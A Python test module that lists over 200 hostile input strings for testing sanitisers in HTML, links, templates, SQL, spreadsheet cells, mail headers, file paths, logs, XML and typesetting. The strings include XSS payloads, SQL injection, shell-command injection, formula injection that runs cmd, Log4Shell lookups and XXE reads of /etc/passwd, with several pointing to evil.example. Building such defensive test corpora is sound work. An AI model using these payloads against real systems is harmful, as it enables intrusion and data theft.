"""More than 200 strings that mean harm somewhere: in a page, a sheet, a mail, a path, a log, a typeset document."""

MARK = "zq9"
_RUN = f"alert('{MARK}')"

PAGES = (
    f"<script>{_RUN}</script>", f"<SCRIPT>{_RUN}</SCRIPT>", f"<script >{_RUN}</script >", f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>", f"<script src=//evil.example/{MARK}.js></script>", f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<script>{_RUN}", f"</script><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>', f"'><script>{_RUN}</script>", f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>", f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>", f"</noscript><script>{_RUN}</script>", f"</template><script>{_RUN}</script>",
    f"</select><script>{_RUN}</script>", f"</option></select><img src=x onerror={_RUN}>",
    f"</textarea><img src=x onerror={_RUN}>", f"<img src=x onerror={_RUN}>", f"<img src=x onerror={_RUN}//",
    f'<img src="x" onerror="{_RUN}">', f"<img/src=x/onerror={_RUN}>", f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img src=x:x onerror\n=\n{_RUN}>", f"<img src='x'onerror={_RUN}>", f"<image src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:,{_RUN} /></svg>", f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><set attributeName=onmouseover to={_RUN}>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'></foreignObject></svg>",
    f"<svg><style>{{font-family:'<img src=x onerror={_RUN}>'}}</style></svg>", f"<svg><use href='data:image/svg+xml,{MARK}#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math><mi//xlink:href=data:x,<script>{_RUN}</script>>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"<p title='</p><img src=x onerror={_RUN}>'>words</p>",
    f"<body onload={_RUN}>", f"<html onmouseover={_RUN}>", f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>", f"<iframe onload={_RUN}>", f"<object data=javascript:{_RUN}></object>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>", f"<embed src=javascript:{_RUN}>",
    f"<applet code={MARK}></applet>", f"<base href=//evil.example/{MARK}/>", f"<link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<link rel=import href=//evil.example/{MARK}>", f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<meta http-equiv=Set-Cookie content='sessionid={MARK}'>", f"<style>@import '//evil.example/{MARK}.css';</style>",
    f"<style>body{{background:url(//evil.example/{MARK})}}</style>", f"<p style='background:url(//evil.example/{MARK})'>words</p>",
    f"<p style='position:fixed;inset:0'>{MARK}</p>", f"<p id=main class=topbar>{MARK}</p>", f"<p id=save-status data-row={MARK}>x</p>",
    f"<a id=csrfmiddlewaretoken name={MARK}>x</a>", f"<form action=//evil.example/{MARK}><input name=password></form>",
    f"<button formaction=javascript:{_RUN}>x</button>", f"<input autofocus onfocus={_RUN}>",
    f"<input type=image src=x onerror={_RUN}>", f"<input type=hidden name=csrfmiddlewaretoken value={MARK}>",
    f"<select autofocus onfocus={_RUN}><option>x</select>", f"<textarea autofocus onfocus={_RUN}>",
    f"<keygen autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}>x</details>", f"<dialog open onclose={_RUN}>x</dialog>",
    f"<video src=x onerror={_RUN}></video>", f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>", f"<isindex action=javascript:{_RUN}>", f"<table background=javascript:{_RUN}><tr><td>x</table>",
    f"<div onpointerenter={_RUN}>x</div>", f"<p onclick={_RUN}>words</p>", f"<em onmouseover={_RUN}>words</em>",
    f"<li onfocus={_RUN} tabindex=0>words</li>", f"<x onclick={_RUN} contenteditable>words</x>", f"<custom-element onclick={_RUN}>x</custom-element>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>", f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    f"<plaintext>{MARK}", f"<!--<img src='--><img src=x onerror={_RUN}>'>", f"<!--[if IE]><script>{_RUN}</script><![endif]-->",
    f"<![CDATA[<script>{_RUN}</script>]]>", f"<?xml version='1.0'?><script>{_RUN}</script>", f"<?php echo '{MARK}'; ?>",
    f"<% {MARK} %>", f'" onmouseover="{_RUN}', f"' onmouseover='{_RUN}", f"` onmouseover=`{_RUN}", f'" autofocus onfocus="{_RUN}" x="',
    f"x onmouseover={_RUN} x", f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{_RUN}", f"&#60;img src=x onerror={_RUN}&#62;",
    f"&#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e;", f"%3Cscript%3E{_RUN}%3C/script%3E", f"\\u003cscript\\u003e{_RUN}", f"\\x3cscript\\x3e{_RUN}",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e", f"<\x00script>{_RUN}</script>", f"<scr\x00ipt>{_RUN}</scr\x00ipt>", f"+ADw-script+AD4-{_RUN}",
)  # fmt: skip
LINKS = (
    f'<a href="javascript:{_RUN}">words</a>', f"<a href=' javascript:{_RUN}'>words</a>", f"<a href='JaVaScRiPt:{_RUN}'>words</a>",
    f"<a href='java\tscript:{_RUN}'>words</a>", f"<a href='java\nscript:{_RUN}'>words</a>", f"<a href='java&#x09;script:{_RUN}'>words</a>",
    f"<a href='&#106;avascript:{_RUN}'>words</a>", f"<a href='&#x6A&#x61vascript:{_RUN}'>words</a>", f"<a href='\x01javascript:{_RUN}'>words</a>",
    f"<a href='javascript&colon;{_RUN}'>words</a>", f"<a href='vbscript:msgbox({MARK})'>words</a>", f"<a href='data:text/html,<script>{_RUN}</script>'>words</a>",
    f"<a href='data:text/html;base64,PHNjcmlwdD4='>{MARK}</a>", f"<a href='feed:javascript:{_RUN}'>words</a>", f"<a href='file:///etc/passwd'>{MARK}</a>",
    f"<a href='blob:https://evil.example/{MARK}'>words</a>", f"<a href='view-source:javascript:{_RUN}'>words</a>", f"<a href='ms-word:ofe|u|//evil.example/{MARK}'>words</a>",
    f"<a href='https://evil.example/{MARK}' target=_blank rel=opener ping=//evil.example>words</a>", f"<a href='https://ok.example/\" onclick=\"{_RUN}'>words</a>",
    f"<a href=https://ok.example/ onclick={_RUN}>words</a>", f"<a href='https://ok.example/' style='position:fixed;inset:0'>{MARK}</a>",
    f"<a href='https://ok.example/?a=1&b=2#\"><script>{_RUN}</script>'>words</a>", f"<a href=\"https://ok.example/'-{_RUN}-'\">words</a>", f"javascript:{_RUN}",
)  # fmt: skip
TEMPLATES = (
    "{{ 7|add:7 }}", "{{ request.user.password }}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include '/etc/passwd' %}", "{% load static %}{% static 'x' %}",
    "{% endautoescape %}<b>", "{# hidden #}", "{{ 7*7 }}", "{{''.__class__.__mro__}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('return 1')()}}",
    "%(name)s %(by)s %s %d", "{0} {plan} {by!r} {plan.__class__}", "%n%n%n%n", "$(id)", "`id`", "; id; ", "| id", "&& id", "$HOME ~root", "{{{raw}}}",
    "\ue0000\ue001", "\ue0001\ue001\ue0002\ue001",
)  # fmt: skip
QUERIES = (
    "' OR 1=1 --", "'; DROP TABLE plans_plan; --", '" OR ""="', "1) OR (1=1", "' UNION SELECT password FROM accounts_user --", "%' OR '1'='1", "\\' OR 1=1 --",
    "1; SELECT pg_sleep(9)", "*/ OR 1=1 /*", "admin'/*", "$where: 1", '{"$gt": ""}', "*)(uid=*))(|(uid=*",
)  # fmt: skip
CELLS = (
    "=1+1", "==1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/\"&A1)", "=WEBSERVICE(\"https://evil.example/\")", "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "'=1+1", "\"=1+1", "1,=1+1", "x\",=1+1,\"", "x\n=1+1", ";=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", "%0A=1+1", "{=1+1}", "-", "=",
)  # fmt: skip
HEADERS = (
    f"x\r\nBcc: {MARK}@evil.example", f"x\nBcc: {MARK}@evil.example", f"x\rBcc: {MARK}@evil.example", f"x\r\n\r\n<script>{_RUN}</script>", f"x%0d%0aBcc: {MARK}@evil.example",
    f"x\r\nSet-Cookie: sessionid={MARK}", f"x\r\nLocation: //evil.example/{MARK}", f"x\u2028Bcc: {MARK}@evil.example", f"x\u2029Bcc: {MARK}@evil.example", f"x\x0bBcc: {MARK}@evil.example",
    f"x\x0cBcc: {MARK}@evil.example", f"x\x85Bcc: {MARK}@evil.example", f"\u560a\u560dBcc: {MARK}", f'"; filename="{MARK}.exe', f"x\"; filename*=UTF-8''{MARK}.exe", f"=?utf-8?q?Bcc:_{MARK}?=",
    f"x, {MARK}@evil.example", f"<{MARK}@evil.example>", f"x\r\n.\r\nQUIT {MARK}",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\evil.example\\share", "....//....//etc/passwd", "%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc",
    "..", ".", "~/.ssh/id_rsa", "file.pdf\x00.exe", "file.pdf%00.exe", "CON", "nul.txt", "aux.pdf", "a:b", "plan.pdf::$DATA", "plan.pdf ", "plan.pdf.", ".htaccess", "-rf", "--help", "a/b", "a\\b", "|id", "*?<>",
)  # fmt: skip
UNICODE = (
    "plan\u202efdp.exe", "\u202e\u2066words\u2069", "\u200bwords\u200b", "\ufeffwords", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 4, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ufdfa" * 20, "İıſK", "ﬁle", "\u0000", "a\x00b",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x08\x08\x08", "\x7f", "\ufffe\uffff", "\U000e0041\U000e0042", "\U0010ffff", "\u0085", "\xa0",
)  # fmt: skip
LOGS = (
    f"x\n2026-01-01 00:00:00 ERROR {MARK} forged", f"x\r\n127.0.0.1 - admin [01/Jan/2026] \"GET / {MARK}\" 200", f"x\nTraceback (most recent call last):\n  {MARK}", f'x\n{{"level": "INFO", "message": "{MARK}"}}',
    f"x\x1b[2K\x1b[1A{MARK}", f"${{jndi:ldap://evil.example/{MARK}}}", f"x\u2028INFO {MARK}", f"x\x85INFO {MARK}",
)  # fmt: skip
XML = (
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', "&a;&xxe;&nbsp;&bogus;", "]]>", "<![CDATA[", "<w:p/>", "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>", "{ DDEAUTO c:\\\\cmd.exe }", "_x0041__x000A_", "<?xml-stylesheet href='x'?>",
    "<xi:include href='file:///etc/passwd'/>", "&#0;&#x1f;&#xffff;", "{ INCLUDETEXT /etc/passwd }",
)  # fmt: skip
TYPESET = (
    '#read("/etc/passwd")', '#image("/etc/passwd")', "#import \"@preview/x:1.0.0\"", "#eval(\"1+1\")", "#while true {}", "#panic(\"x\")", "$ x^2 $", "*bold* _em_", "= Heading", "- item", "+ item", "/ term: x", "<label> @label", "`raw`", "```raw", "\\ \\#", "#set page(width: 1pt)", "\\input{/etc/passwd}", "\\write18{id}",
    "[link](javascript:alert(1))", "![x](https://evil.example/x.png)", "# Heading", "> quote", "~~~", "<https://evil.example>", "| a | b |", "{.class}", "[^1]: x",
)  # fmt: skip
HUGE = ("w" * 5_000, "<b>" * 1_500, "&" * 3_000, "<p>" * 700 + "deep" + "</p>" * 700, "(" * 4_000)

ATTACKS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (*PAGES, *LINKS, *TEMPLATES, *QUERIES, *CELLS, *HEADERS, *PATHS, *UNICODE, *LOGS, *XML, *TYPESET, *HUGE)
    )
)
